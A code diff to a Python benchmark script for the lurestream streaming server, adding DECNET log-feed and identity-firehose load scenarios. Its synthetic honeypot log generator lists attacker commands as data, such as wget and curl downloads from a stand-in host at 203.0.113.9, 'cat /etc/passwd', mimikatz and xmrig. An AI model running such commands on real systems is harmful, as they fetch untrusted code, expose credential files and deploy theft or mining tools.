@@ -1,6 +1,9 @@
-"""Scale benchmarks, side by side: lurestream, the seed's design (bench/baselines/seed_app.py) and nchan.
+"""Scale benchmarks, side by side: lurestream, the seed's design (bench/baselines/seed_app.py), nchan and
+DECNET's own log feed (bench/baselines/decnet_logs_app.py).
 
     python bench/run.py [--servers lurestream,seed,nchan] [--scenarios idle,storm,sparse,broadcast] [--quick]
+    python bench/run.py --servers lurestream,decnet --scenarios logfeed,firehose   # protocol §14–§15
+    python bench/run.py --servers lurestream,lurestream@/tmp/oldmain --rounds 3    # this checkout vs another
     python bench/run.py --servers lurestream --scenarios sparse --profile /tmp/prof   # + py-spy profiles
     python bench/run.py --servers lurestream --processes 3 --scenarios idle --idle-streams 50000
 
@@ -11,7 +14,11 @@ generator (bench/loadgen.c) with the system compiler, and for each server runs:
   server CPU per connect, snapshot queries per attacker (lurestream);
 - sparse: S streams over 500 attackers, the publisher at R events/s spread over them → delivery p50/p99,
   server CPU per delivery;
-- broadcast: S streams on one attacker, R events/s → deliveries/s, p99, server CPU per delivery.
+- broadcast: S streams on one attacker, R events/s → deliveries/s, p99, server CPU per delivery;
+- logfeed: V viewers of GET /api/v1/stream over 100 distinct searches while rows are inserted into ``logs``
+  at ``--logfeed-rate`` → each stream's rows checked against exactly the rows its search selects, delivery
+  p50/p99 from the insert, store queries per second by kind; DECNET's design at ``--logfeed-baseline-streams``;
+- firehose: F streams of one firehose (identities), R events/s → deliveries/s, p99, server CPU per delivery.
 Latency is measured from the envelope's ``ts`` (set by the publisher) to the load generator reading the
 frame, on one host. The fan-out window is the publishing time plus the time until no delivery has
 arrived for 2 s (at most ``--grace`` s); "delivered" is the deliveries received over those expected on
@@ -43,10 +50,13 @@ import sys
 import tempfile
 import threading
 import time
+import urllib.parse
 from dataclasses import dataclass, field
+from datetime import datetime, timedelta, timezone
 from typing import Any
 
 import nats
+from prometheus_client.parser import text_string_to_metric_families
 from pymongo import MongoClient
 
 HERE = os.path.dirname(os.path.abspath(__file__))
@@ -80,7 +90,7 @@ class Server:
 
     def workers(self) -> list[int]:
         """The processes that serve streams: the forked workers (LURESTREAM_PROCESSES > 1), else the process."""
-        if self.name.startswith("lurestream") and self.extra.get("processes", 1) > 1:
+        if self.extra.get("processes", 1) > 1:
             return self.children()
         return [self.proc.pid]
 
@@ -144,11 +154,16 @@ def seed(mongo_url: str, users: int) -> list[str]:
                 for p in ("ja3", "http.user_agent", "ssh.client_version")
             ]
         )
+        now = datetime.now(timezone.utc)  # the identities firehose's snapshot: the 50 newest
+        db.identities.insert_many(
+            [{"_id": f"i-{i}", "updated_at": now - timedelta(seconds=i), "confidence": 0.5} for i in range(100)]
+        )
     config = config_from({"jwt_secret": SECRET})
     return [mint_token(config, f"user-{i}", ttl=6 * 3600) for i in range(users)]
 
 
-def start_lurestream(nats_url: str, mongo_url: str, processes: int, work: str) -> Server:
+def start_lurestream(nats_url: str, mongo_url: str, processes: int, work: str, path: str | None = None) -> Server:
+    """``lurestream serve`` from this checkout, or (``path``) from another one (``--servers lurestream@PATH``)."""
     port = free_port()
     proc = serve(
         port,
@@ -156,6 +171,7 @@ def start_lurestream(nats_url: str, mongo_url: str, processes: int, work: str) -
         mongo_url,
         "bench",
         open(os.path.join(work, "lurestream.log"), "ab"),
+        pythonpath=path,
         sse_max_per_user=1000,
         processes=processes,
         queue_max=1024,
@@ -163,8 +179,9 @@ def start_lurestream(nats_url: str, mongo_url: str, processes: int, work: str) -
         drain_seconds=0,
     )
     time.sleep(1.5)
-    name = "lurestream" if processes == 1 else f"lurestream ×{processes}"
-    return Server(name, port, proc, "nats", extra={"processes": processes})
+    name = "lurestream" if path is None else f"lurestream {git_commit(path)}"
+    name += "" if processes == 1 else f" ×{processes}"
+    return Server(name, port, proc, "nats", extra={"processes": processes, "lurestream": True, "path": path})
 
 
 def start_seed(nats_url: str, mongo_url: str, work: str) -> Server:
@@ -182,6 +199,18 @@ def start_seed(nats_url: str, mongo_url: str, work: str) -> Server:
     wait_port(port, 30, proc)
     time.sleep(1.0)
     return Server("seed design", port, proc, "nats")
+
+
+def start_decnet_logs(mongo_url: str, work: str) -> Server:
+    """DECNET's live log feed as DECNET serves it (``bench/baselines/decnet_logs_app.py``)."""
+    port = free_port()
+    env = dict(os.environ, LURESTREAM_MONGO_URI=mongo_url, LURESTREAM_MONGO_DB="bench", LURESTREAM_JWT_SECRET=SECRET)
+    log = open(os.path.join(work, "decnet-logs.log"), "ab")
+    script = os.path.join(HERE, "baselines", "decnet_logs_app.py")
+    proc = subprocess.Popen([sys.executable, script, "--port", str(port)], env=env, stdout=log, stderr=log)
+    wait_port(port, 30, proc)
+    time.sleep(1.0)
+    return Server("DECNET design", port, proc, "none")
 
 
 def nchan_available() -> bool:
@@ -261,13 +290,17 @@ class Load:
         ramp: float = 0,
         sources: bool = True,
         retries: int = 0,
+        processes: int = 0,
+        env: dict[str, str] | None = None,
     ) -> None:
+        """``processes``: at least this many load generators (0: as few as PER_LOADGEN allows); ``env``: extra
+        environment for them (``LOADGEN_LOGS``: the live log feed's rows are the deliveries)."""
         self.procs: list[subprocess.Popen[str]] = []
         self.offsets: list[int] = []
         self.ready: list[threading.Event] = []
         self.drained: list[threading.Event] = []
         self.logs: list[list[str]] = []
-        count = -(-len(paths) // PER_LOADGEN)  # as few generators as the limit allows, evenly loaded
+        count = max(-(-len(paths) // PER_LOADGEN), min(processes, len(paths)), 1)  # evenly loaded
         size = -(-len(paths) // count)
         chunks = range(0, len(paths), size)
         per_ramp = ramp / len(chunks) if ramp > 0 else 0
@@ -278,7 +311,9 @@ class Load:
                 fh.write("\n".join(chunk) + "\n")
             argv = [loadgen, "127.0.0.1", str(port), path_file, str(len(chunk)), str(hold), str(per_ramp)]
             argv += [source_address(n) if sources else "-", str(retries)]
-            proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+            proc = subprocess.Popen(
+                argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=dict(os.environ, **(env or {}))
+            )
             ready, drained, log = threading.Event(), threading.Event(), []
             threading.Thread(target=self._watch, args=(proc, ready, drained, log), daemon=True).start()
             self.procs.append(proc)
@@ -345,6 +380,8 @@ class Load:
             values = [p[key] for p in parts]
             if key in ("never_up", "closed_early_idx"):
                 merged[key] = [i + off for part, off in zip(values, self.offsets, strict=True) for i in part]
+            elif key == "logs":  # per connection, in the order of the paths
+                merged[key] = [entry for part in values for entry in part]
             elif key in ("statuses", "connect_errors"):
                 total: dict[str, int] = {}
                 for v in values:
@@ -364,10 +401,11 @@ def established(port: int) -> int:
 
 
 async def publish(
-    server: Server, nats_url: str, attackers: list[str], rate: float, seconds: float
+    server: Server, nats_url: str, attackers: list[str], rate: float, seconds: float, subject: str = "attacker.scored"
 ) -> tuple[int, dict[str, int]]:
     """Publish ``rate`` events/s (each for a random attacker of ``attackers``) for ``seconds``; returns the
-    number sent and how many went to each attacker."""
+    number sent and how many went to each attacker. ``subject`` other than ``attacker.scored``: a firehose's
+    event (``identity.formed``: every identities stream wants it; ``attackers`` are then identity ids)."""
     sent = 0
     per_attacker: dict[str, int] = dict.fromkeys(attackers, 0)
     tick = 0.01
@@ -387,18 +425,23 @@ async def publish(
         batch, carry = int(carry), carry - int(carry)
         for _ in range(batch):
             uuid = random.choice(attackers)
+            payload = (
+                {"attacker_uuid": uuid, "score": 1.0}
+                if subject == "attacker.scored"
+                else {"identity_uuid": uuid, "confidence": 0.9, "observations": 3}
+            )
             body = json.dumps(
                 {
                     "v": 1,
                     "id": "b",
-                    "topic": "attacker.scored",
-                    "type": "score",
+                    "topic": subject,
+                    "type": "score" if subject == "attacker.scored" else subject.rpartition(".")[2],
                     "ts": time.time(),
-                    "payload": {"attacker_uuid": uuid, "score": 1.0},
+                    "payload": payload,
                 }
             ).encode()
             if nc is not None:
-                await nc.publish("attacker.scored", body)
+                await nc.publish(subject, body)
             else:
                 pending.append(
                     http.fetch(
@@ -735,13 +778,18 @@ COUNTERS = (
     "lurestream_events_forwarded_total",
     "lurestream_bus_messages_total",
     "lurestream_streams_open",
+    "lurestream_log_queries_total",
 )
+
+
+LABELS = ("reason", "family", "kind", "query", "outcome")  # the label a metric's values are kept by
 
 
 def scrape(server: Server) -> dict[str, dict[str, float]] | None:
     """lurestream's ``/metrics`` (every worker's values, with several processes): for each metric of
-    COUNTERS, its value by the label that matters (``reason``, ``family``…; "" when unlabelled)."""
-    if not server.name.startswith("lurestream"):
+    COUNTERS, its value by the label that matters (``reason``, ``family``, ``kind``, ``query``…; "" when
+    unlabelled), read with prometheus-client's own parser."""
+    if not server.extra.get("lurestream"):
         return None
     import urllib.request
 
@@ -752,14 +800,13 @@ def scrape(server: Server) -> dict[str, dict[str, float]] | None:
         print(f"  /metrics: {exc}", file=sys.stderr)
         return None
     out: dict[str, dict[str, float]] = {}
-    for line in text.splitlines():
-        m = re.match(r"^([a-z_]+)(?:\{(.*)\})? ([0-9.eE+-]+|NaN)$", line)
-        if not m or m.group(1) not in COUNTERS:
-            continue
-        labels = dict(re.findall(r'(\w+)="([^"]*)"', m.group(2) or ""))
-        label = labels.get("reason") or labels.get("family") or labels.get("kind") or ""
-        values = out.setdefault(m.group(1), {})
-        values[label] = values.get(label, 0.0) + float(m.group(3))
+    for family in text_string_to_metric_families(text):
+        for sample in family.samples:
+            if sample.name not in COUNTERS:  # (a counter's samples are NAME_total; _created is left out)
+                continue
+            label = next((sample.labels[k] for k in LABELS if sample.labels.get(k)), "")
+            values = out.setdefault(sample.name, {})
+            values[label] = values.get(label, 0.0) + float(sample.value)
     return out
 
 
@@ -909,10 +956,26 @@ def scenario_fanout(
     streams: int,
     attackers: list[str],
     rate: float,
+    firehose: str = "",
 ) -> dict:
-    paths = paths_for(streams, attackers, tokens)
+    """``firehose``: the streams are that firehose's (``/api/v1/identities/events``), the events ``identity.formed``
+    (every stream wants every event; ``attackers`` are identity ids); else attacker streams over ``attackers``."""
+    if firehose:
+        paths = [f"{firehose}?token={tokens[i % len(tokens)]}" for i in range(streams)]
+    else:
+        paths = paths_for(streams, attackers, tokens)
     hold = args.duration + args.grace + 600  # stopped at the end of the grace
-    load = Load(loadgen, server.port, paths, hold, work, args.ramp, not args.no_sources, args.retry_refused)
+    load = Load(
+        loadgen,
+        server.port,
+        paths,
+        hold,
+        work,
+        args.ramp,
+        not args.no_sources,
+        args.retry_refused,
+        processes=args.loadgens if firehose else 0,
+    )
     try:
         load.wait_ready(streams / max(args.ramp, 1) + 120)
         time.sleep(1)
@@ -920,7 +983,8 @@ def scenario_fanout(
         prof.start(server, scenario)
         cpu = server.cpu_seconds()
         started = time.monotonic()
-        sent, per_attacker = asyncio.run(publish(server, nats_url, attackers, rate, args.duration))
+        subject = "identity.formed" if firehose else "attacker.scored"
+        sent, per_attacker = asyncio.run(publish(server, nats_url, attackers, rate, args.duration, subject))
         elapsed = time.monotonic() - started
         load.mark()  # deliveries from now on were in flight when publishing ended
         if not load.wait_drained(args.grace):
@@ -933,7 +997,10 @@ def scenario_fanout(
         load.kill()
     deliveries = res["events"]
     down = set(res["never_up"])  # never got a 200: no delivery is expected on them
-    expected = sum(per_attacker[attackers[i % len(attackers)]] for i in range(streams) if i not in down)
+    if firehose:
+        expected = sent * (streams - len(down))
+    else:
+        expected = sum(per_attacker[attackers[i % len(attackers)]] for i in range(streams) if i not in down)
     return {
         "streams": int(res["up"]),
         "failed": int(res["failed"]),
@@ -948,6 +1015,394 @@ def scenario_fanout(
         "p99_ms": res["latency_p99_ms"],
         "max_ms": res["latency_max_ms"],
         "cpu_us_per_delivery": cpu * 1e6 / max(deliveries, 1),
+        **load_row(res),
+    }
+
+
+# -- the live log feed (protocol §15) -----------------------------------------------------------------
+# Rows are a function of their id (the bench knows every row it inserted without keeping them); only the
+# timestamp and fields.ins (the insert time, the latency's origin) are set when a row is inserted.
+LOG_DECKIES = [f"decky-{i:02d}" for i in range(20)]
+LOG_SERVICES = (("ssh", 30, 22), ("http", 25, 80), ("smb", 10, 445), ("ftp", 10, 21), ("telnet", 10, 23))
+LOG_SERVICES += (("rdp", 5, 3389), ("mysql", 5, 3306), ("smtp", 5, 25))
+LOG_EVENTS = (("login_failed", 35), ("connect", 30), ("command", 20), ("request", 10), ("disconnect", 5))
+LOG_USERS = (("root", 30), ("admin", 20), ("user", 10), ("test", 10), ("oracle", 5), ("pi", 5), ("ubnt", 5))
+LOG_USERS += (("guest", 5), ("postgres", 5), ("deploy", 5))
+LOG_COMMANDS = (("uname -a", 30), ("id", 25), ("wget http://203.0.113.9/x.sh", 15), ("cat /etc/passwd", 10))
+LOG_COMMANDS += (
+    ("curl -O http://203.0.113.9/y", 10),
+    ("ls -la /tmp", 9.7),
+    ("mimikatz.exe", 0.2),
+    ("xmrig -o pool", 0.1),
+)
+LOG_IPS = [f"198.51.100.{i}" for i in range(1, 201)] + [f"203.0.113.{i}" for i in range(1, 201)]
+LOG_HEAVY_IPS = 10  # the first 10 addresses send 3 % of the rows each; the other 390 share the remaining 70 %
+LOG_TEXT_FIELDS_EVERY = 10  # every 10th row stores ``fields`` as JSON text (protocol §15 allows both)
+LOG_CORE = {"decky": "decky", "service": "service", "event": "event_type", "attacker": "attacker_ip"}
+LOG_CORE.update({"attacker-ip": "attacker_ip", "attacker_ip": "attacker_ip"})
+
+
+def _pick(rng: random.Random, table: tuple[tuple[Any, ...], ...]) -> tuple[Any, ...]:
+    return rng.choices(table, weights=[row[1] for row in table])[0]
+
+
+def log_row(row_id: int) -> dict[str, Any]:
+    """Row ``row_id`` of the bench's ``logs``, without ``timestamp`` and ``fields.ins`` (set at insert)."""
+    rng = random.Random(row_id * 7919 + 17)
+    service, _, port = _pick(rng, LOG_SERVICES)
+    event = _pick(rng, LOG_EVENTS)[0]
+    user = _pick(rng, LOG_USERS)[0]
+    heavy = rng.random() < 0.3
+    ip = LOG_IPS[rng.randrange(LOG_HEAVY_IPS)] if heavy else LOG_IPS[LOG_HEAVY_IPS + rng.randrange(390)]
+    sport = 1024 + rng.randrange(60000)
+    command = _pick(rng, LOG_COMMANDS)[0] if event == "command" else ""
+    fields: dict[str, Any] = {"username": user, "port": port, "src_port": sport, "session": f"s{row_id % 1000}"}
+    if command:
+        fields["command"] = command
+    return {
+        "_id": row_id,
+        "decky": LOG_DECKIES[rng.randrange(len(LOG_DECKIES))],
+        "service": service,
+        "event_type": event,
+        "attacker_ip": ip,
+        "raw_line": f"{service} {event} user={user} from {ip}:{sport}" + (f" cmd={command}" if command else ""),
+        "fields": fields,
+    }
+
+
+def log_filters() -> list[tuple[str, str, str]]:
+    """100 distinct filters (search, start_time, end_time) in DECNET's language, matching much to nothing."""
+    searches = [""]  # a dashboard's default: every row
+    searches += [f"service:{s[0]}" for s in LOG_SERVICES]
+    searches += [f"decky:{d}" for d in LOG_DECKIES]
+    searches += [f"event:{e[0]}" for e in LOG_EVENTS]
+    searches += [f"attacker-ip:{ip}" for ip in LOG_IPS[:LOG_HEAVY_IPS]]
+    searches += [f"attacker-ip:{ip}" for ip in LOG_IPS[LOG_HEAVY_IPS::39][:10]]
+    searches += ["root", "admin", "wget", "passwd", "mimikatz", "xmrig", "FTP", "uname", "198.51.100.7", "decky-19"]
+    searches += ["curl", "oracle", "Telnet", "smb", "guest", "deploy"]
+    searches += [
+        "service:ssh event:login_failed",
+        "service:ssh root",
+        "decky:decky-03 service:http",
+        "service:http curl",
+        "event:command wget",
+        "username:root service:ssh",
+        "decky:decky-00 event:connect",
+        f"attacker-ip:{LOG_IPS[0]} service:ssh",
+        "service:smb admin",
+        "service:ftp event:login_failed",
+        "service:telnet root",
+        "decky:decky-05 root",
+        "event:request service:http",
+        "service:rdp admin",
+        "decky:decky-11 event:command",
+    ]
+    searches += ["username:ubnt", "username:admin", "username:pi", "port:21", "port:3389", "port:445"]
+    searches += ["session:s7", "session:s123", "src_port:40000", "username:postgres"]
+    searches += ['"user=pi from"', '"cat /etc/passwd"']
+    filters = [(s, "", "") for s in searches]
+    filters += [("service:smtp", "2020-01-01T00:00:00Z", ""), ("", "2999-01-01T00:00:00Z", "")]
+    filters += [("decky:decky-02", "", "2999-01-01T00:00:00Z")]
+    assert len(set(filters)) == 100, len(set(filters))
+    return filters
+
+
+def log_matches(search: str, start: str, end: str, row: dict[str, Any], when: datetime) -> bool:
+    """The bench's own reading of DECNET's search language (independent of lurestream.logsearch), for the
+    filters above: every term must hold."""
+    return _log_terms(search, start, end)(row, when)
+
+
+_TERMS: dict[tuple[str, str, str], Any] = {}
+
+
+def _log_terms(search: str, start: str, end: str) -> Any:
+    """``search`` split once (shlex, as DECNET), as one test of a row."""
+    import shlex
+
+    found = _TERMS.get((search, start, end))
+    if found is not None:
+        return found
+    bound = lambda text: datetime.fromisoformat(text.replace("Z", "+00:00")) if text else None  # noqa: E731
+    low, high = bound(start), bound(end)
+    core, other, words = [], [], []
+    for token in shlex.split(search):
+        if ":" in token:
+            key, value = token.split(":", 1)
+            (core if key in LOG_CORE else other).append((LOG_CORE.get(key, key), value))
+        else:
+            words.append(token.casefold())
+
+    def test(row: dict[str, Any], when: datetime) -> bool:
+        if low is not None and when < low or high is not None and when > high:
+            return False
+        if any(row[column] != value for column, value in core):
+            return False
+        for key, value in other:
+            stored = row["fields"].get(key)
+            if (stored if isinstance(stored, str) else json.dumps(stored)) != value:
+                return False
+        texts = [row[name].casefold() for name in ("raw_line", "decky", "service", "attacker_ip")] if words else []
+        return all(any(word in text for text in texts) for word in words)
+
+    _TERMS[(search, start, end)] = test
+    return test
+
+
+def mix64(x: int) -> int:
+    """splitmix64's finaliser, as bench/loadgen.c sums it per stream."""
+    mask = (1 << 64) - 1
+    x = (x + 0x9E3779B97F4A7C15) & mask
+    x = ((x ^ (x >> 30)) * 0xBF58476D1CE4E5B9) & mask
+    x = ((x ^ (x >> 27)) * 0x94D049BB133111EB) & mask
+    return x ^ (x >> 31)
+
+
+class LogWriter:
+    """What DECNET's collector does to ``logs``: inserts rows (``_id`` increasing) at a steady rate.
+
+    The MongoDB-wire test server answers an ``_id`` range by reading the whole collection (neosqlite keeps
+    ``_id`` as text and filters in Python: ~11 µs per stored row per query), where MongoDB uses the ``_id``
+    index; so that the store's cost per query stays what MongoDB's would be — independent of how long the
+    bench has run — the rows older than the newest ``keep`` are deleted once a second, for every server alike.
+    """
+
+    def __init__(self, mongo_url: str, keep: int) -> None:
+        self.client: MongoClient[dict[str, Any]] = MongoClient(mongo_url)
+        self.db = self.client.bench
+        self.keep = keep
+        self.next_id = 1
+        self.low: int | None = None  # the lowest id that may still be stored
+
+    def prepare(self, rows: int = 5000) -> int:
+        """The deckies, and ``rows`` rows over the last hour (for the histograms) the first time; returns the
+        id the next row gets."""
+        if self.db.deckies.estimated_document_count() == 0:
+            self.db.deckies.insert_many(
+                [{"_id": d, "state": "running" if i < 15 else "stopped"} for i, d in enumerate(LOG_DECKIES)]
+            )
+        last = list(self.db.logs.find({"_id": {"$gte": 0}}, {"_id": 1}).sort("_id", -1).limit(1))
+        if last:
+            self.next_id = int(last[0]["_id"]) + 1
+            return self.next_id
+        now = datetime.now(timezone.utc)
+        docs = []
+        for n in range(rows):
+            doc = log_row(n + 1)
+            doc["timestamp"] = now - timedelta(seconds=3600 * (rows - n) / rows)
+            docs.append(doc)
+        self.db.logs.insert_many(docs)
+        self.next_id = rows + 1
+        return self.next_id
+
+    def run(self, rate: float, seconds: float) -> dict[str, Any]:
+        """Insert ``rate`` rows/s for ``seconds`` (a batch every 10 ms); returns the ids and the rate held."""
+        first = self.next_id
+        start = time.monotonic()
+        next_prune = start + 1.0
+        slowest = 0.0
+        while True:
+            now = time.monotonic()
+            if now - start >= seconds:
+                break
+            due = first + int((now - start) * rate) - self.next_id
+            if due > 0:
+                docs = [log_row(i) for i in range(self.next_id, self.next_id + due)]
+                wall = time.time()
+                stamp = datetime.now(timezone.utc)
+                for doc in docs:
+                    doc["timestamp"] = stamp
+                    fields = {"ins": wall, **doc["fields"]}
+                    doc["fields"] = json.dumps(fields) if doc["_id"] % LOG_TEXT_FIELDS_EVERY == 0 else fields
+                began = time.monotonic()
+                self.db.logs.insert_many(docs, ordered=True)
+                slowest = max(slowest, time.monotonic() - began)
+                self.next_id += due
+            if now >= next_prune:
+                next_prune = now + 1.0
+                self.prune()
+            time.sleep(max(0.0, 0.01 - (time.monotonic() - now)))
+        elapsed = time.monotonic() - start
+        return {"first": first, "last": self.next_id - 1, "seconds": elapsed, "slowest_insert_s": slowest}
+
+    def prune(self) -> None:
+        """Delete the rows older than the newest ``keep``, by id: the MongoDB-wire server compares a range on
+        ``_id`` as text when it deletes (``$lt: 5500`` deletes 10000), so the ids are named (``$in``)."""
+        if self.low is None:
+            first = list(self.db.logs.find({"_id": {"$gte": 0}}, {"_id": 1}).sort("_id", 1).limit(1))
+            self.low = int(first[0]["_id"]) if first else self.next_id
+        until = self.next_id - self.keep
+        if until > self.low:
+            self.db.logs.delete_many({"_id": {"$in": list(range(self.low, until))}})
+            self.low = until
+
+    def close(self) -> None:
+        self.client.close()
+
+
+def expected_rows(filters: list[tuple[str, str, str]], first: int, last: int) -> list[tuple[int, int, int]]:
+    """Per filter: (rows, sum of ids, sum of mix64(id)) of the rows ``first``…``last`` it matches."""
+    stamp = datetime.now(timezone.utc)  # the bench's time bounds are far from any insert time
+    out = [[0, 0, 0] for _ in filters]
+    mask = (1 << 64) - 1
+    for row_id in range(first, last + 1):
+        row = log_row(row_id)
+        for k, (search, start, end) in enumerate(filters):
+            if log_matches(search, start, end, row, stamp):
+                entry = out[k]
+                entry[0] += 1
+                entry[1] = (entry[1] + row_id) & mask
+                entry[2] = (entry[2] + mix64(row_id)) & mask
+    return [(a, b, c) for a, b, c in out]
+
+
+def check_against_logsearch(filters: list[tuple[str, str, str]], rows: int = 2000) -> int:
+    """Rows on which the bench's matching and lurestream's (logsearch) disagree, over ``rows`` rows: 0 means the
+    expectations are lurestream's rules too (a cross-check of the bench, not of the server)."""
+    from lurestream.logsearch import parse_search, parse_time
+
+    stamp = datetime.now(timezone.utc)
+    parsed = [
+        parse_search(s, start=parse_time(a) if a else None, end=parse_time(b) if b else None) for s, a, b in filters
+    ]
+    differ = 0
+    for row_id in range(1, rows + 1):
+        row = log_row(row_id)
+        doc = dict(row, timestamp=stamp)
+        if row_id % LOG_TEXT_FIELDS_EVERY == 0:
+            doc["fields"] = json.dumps(row["fields"])
+        for (search, start, end), flt in zip(filters, parsed, strict=True):
+            differ += log_matches(search, start, end, row, stamp) != flt.matches(doc)
+    return differ
+
+
+def log_path(log_filter: tuple[str, str, str], token: str) -> str:
+    search, start, end = log_filter
+    query = {"search": search, "start_time": start, "end_time": end, "token": token}
+    return "/api/v1/stream?" + urllib.parse.urlencode({k: v for k, v in query.items() if v})
+
+
+def log_queries(server: Server) -> dict[str, float]:
+    """The store queries the server has sent for the feed, by kind: lurestream's ``lurestream_log_queries_total``
+    (tail, stats, histogram, resume), or the DECNET design's own count (max_id, poll, stats, histogram)."""
+    if server.extra.get("lurestream"):
+        return dict((scrape(server) or {}).get("lurestream_log_queries_total", {}))
+    import urllib.request
+
+    try:
+        with urllib.request.urlopen(f"http://127.0.0.1:{server.port}/bench/queries", timeout=60) as r:
+            return {k: float(v) for k, v in json.loads(r.read()).items()}
+    except OSError as exc:
+        print(f"  /bench/queries: {exc}", file=sys.stderr)
+        return {}
+
+
+def scenario_logfeed(
+    server: Server,
+    loadgen: str,
+    tokens: list[str],
+    args: argparse.Namespace,
+    work: str,
+    prof: Profiler,
+    mongo_url: str,
+    viewers: int,
+) -> dict:
+    """``viewers`` streams of GET /api/v1/stream over the 100 filters while ``--logfeed-rate`` rows/s go into
+    ``logs``: each stream's rows against the exact set it should get, delivery latency from the insert,
+    the store queries per second by kind."""
+    filters = log_filters()
+    writer = LogWriter(mongo_url, args.logfeed_keep_rows)
+    base = writer.prepare()
+    paths = [log_path(filters[i % len(filters)], tokens[i % len(tokens)]) for i in range(viewers)]
+    hold = args.duration + args.grace + 600  # stopped at the end of the grace
+    load = Load(
+        loadgen,
+        server.port,
+        paths,
+        hold,
+        work,
+        args.ramp,
+        not args.no_sources,
+        args.retry_refused,
+        processes=args.loadgens,
+        env={"LOADGEN_LOGS": str(base), "LOADGEN_QUIET": str(args.logfeed_quiet)},
+    )
+    try:
+        load.wait_ready(viewers / max(args.ramp, 1) + 120)
+        time.sleep(args.logfeed_settle)  # the openings (stats, histogram) are out; the tail is at the present
+        queries_start = log_queries(server)
+        load.reset()
+        prof.start(server, f"logfeed-{viewers}")
+        cpu = server.cpu_seconds()
+        inserted = writer.run(args.logfeed_rate, args.duration)
+        queries_end = log_queries(server)
+        load.mark()  # rows from now on were in flight when inserting ended
+        if not load.wait_drained(args.grace):
+            print(f"  rows still arriving {args.grace:.0f} s after inserting ended", file=sys.stderr)
+        cpu = server.cpu_seconds() - cpu
+        prof.stop()
+        queries_total = log_queries(server)
+        load.stop()
+        res = load.results()
+    finally:
+        load.kill()
+        writer.close()
+    expected = expected_rows(filters, inserted["first"], inserted["last"])
+    down = set(res["never_up"]) | set(res["closed_early_idx"])
+    complete = missing_streams = extra_streams = disorder = checked = 0
+    rows_expected = rows_missing = 0
+    worst: dict[str, tuple[int, int]] = {}  # filter → (rows expected per stream, fewest received)
+    for i, got in enumerate(res["logs"]):
+        if i in down:
+            continue
+        want = expected[i % len(filters)]
+        checked += 1
+        rows_expected += want[0]
+        disorder += got[3]
+        if tuple(got[:3]) == want and not got[3]:
+            complete += 1
+            continue
+        if got[0] < want[0]:
+            missing_streams += 1
+            rows_missing += want[0] - got[0]
+        else:
+            extra_streams += 1
+        name = " ".join(x for x in filters[i % len(filters)] if x) or "(no search)"
+        seen = worst.get(name)
+        worst[name] = (want[0], got[0] if seen is None else min(seen[1], got[0]))
+    seconds = inserted["seconds"]
+    per_s = {k: (queries_end.get(k, 0.0) - queries_start.get(k, 0.0)) / seconds for k in queries_end}
+    deliveries = res["events"]
+    return {
+        "viewers": viewers,
+        "filters": len(filters),
+        "streams": int(res["up"]),
+        "failed": int(res["failed"]),
+        "closed_early": int(res["closed_early"]),
+        "rows_inserted": inserted["last"] - inserted["first"] + 1,
+        "insert_rate": (inserted["last"] - inserted["first"] + 1) / seconds,
+        "slowest_insert_ms": inserted["slowest_insert_s"] * 1000,
+        "expected": rows_expected,
+        "deliveries": deliveries,
+        "delivered_share": deliveries / max(rows_expected, 1),
+        "deliveries_per_s": deliveries / seconds,
+        "streams_complete": complete,
+        "streams_checked": checked,
+        "streams_missing_rows": missing_streams,
+        "streams_other": extra_streams,
+        "rows_missing": rows_missing,
+        "out_of_order": disorder,
+        "worst_filters": sorted(worst.items(), key=lambda kv: kv[1][1] - kv[1][0])[:5],
+        "in_flight_at_end": res["events_after_mark"],
+        "last_after_end_ms": res["last_event_after_mark_ms"],
+        "p50_ms": res["latency_p50_ms"],
+        "p99_ms": res["latency_p99_ms"],
+        "max_ms": res["latency_max_ms"],
+        "queries_per_s": per_s,
+        "queries_per_s_total": sum(per_s.values()),
+        "queries_run": queries_total,
+        "cpu_us_per_delivery": cpu * 1e6 / max(deliveries, 1),
+        "server_cpu_s": cpu,
         **load_row(res),
     }
 
@@ -1051,66 +1506,186 @@ def main() -> None:
         help="options for lurestream's MongoDB URI, e.g. '?maxConnecting=16&minPoolSize=16' (PyMongo's pool, "
         "as docs/operations.md recommends; default: PyMongo's defaults)",
     )
+    parser.add_argument(
+        "--logfeed-streams",
+        default="10000",
+        help="viewers of GET /api/v1/stream for lurestream (comma-separated: one run each)",
+    )
+    parser.add_argument(
+        "--logfeed-baseline-streams", default="1000", help="viewers for the DECNET design (--servers …,decnet)"
+    )
+    parser.add_argument("--logfeed-rate", type=float, default=1000, help="rows/s inserted into logs")
+    parser.add_argument(
+        "--logfeed-keep-rows",
+        type=int,
+        default=5000,
+        help="rows kept in logs (older ones deleted once a second: the MongoDB-wire server scans the collection "
+        "for an _id range, MongoDB would not)",
+    )
+    parser.add_argument(
+        "--logfeed-settle", type=float, default=3, help="seconds between the last stream up and the first row"
+    )
+    parser.add_argument(
+        "--logfeed-quiet",
+        type=float,
+        default=5,
+        help="after inserting ends, rows are counted until none has arrived for this many seconds (rows come a "
+        "poll apart; at most --grace s)",
+    )
+    parser.add_argument("--firehose-streams", type=int, default=10000)
+    parser.add_argument("--firehose-rate", type=float, default=100)
+    parser.add_argument(
+        "--firehose-path", default="/api/v1/identities/events", help="the firehose (its events: identity.formed)"
+    )
+    parser.add_argument(
+        "--loadgens", type=int, default=0, help="at least this many load generator processes for logfeed and firehose"
+    )
+    parser.add_argument(
+        "--rounds",
+        type=int,
+        default=1,
+        help="run the whole suite this many times, scenario by scenario, servers interleaved",
+    )
+    parser.add_argument(
+        "--interleave",
+        action="store_true",
+        help="scenario by scenario with the servers side by side (default: server by server)",
+    )
     parser.add_argument("--output", help="also write the Markdown to this file")
     args = parser.parse_args()
     servers = [s for s in args.servers.split(",") if s]
     scenarios = [s for s in args.scenarios.split(",") if s]
-    if "idle" in scenarios:  # each stream is a socket in some worker; the kernel spreads them evenly
+    most = max(
+        [args.idle_streams if "idle" in scenarios else 0]
+        + [args.firehose_streams if "firehose" in scenarios else 0]
+        + ([int(n) for n in args.logfeed_streams.split(",")] if "logfeed" in scenarios else [0])
+    )
+    if most:  # each stream is a socket in some worker; the kernel spreads them evenly
         spread = 1.03 if args.processes > 1 else 1.0
-        ensure_open_files(int(args.idle_streams / max(args.processes, 1) * spread) + 100)
+        ensure_open_files(int(most / max(args.processes, 1) * spread) + 100)
     prof = Profiler(args.profile, args.profile_rate, blocking=args.profile_blocking)
     work = tempfile.mkdtemp(prefix="lurestream-bench-")
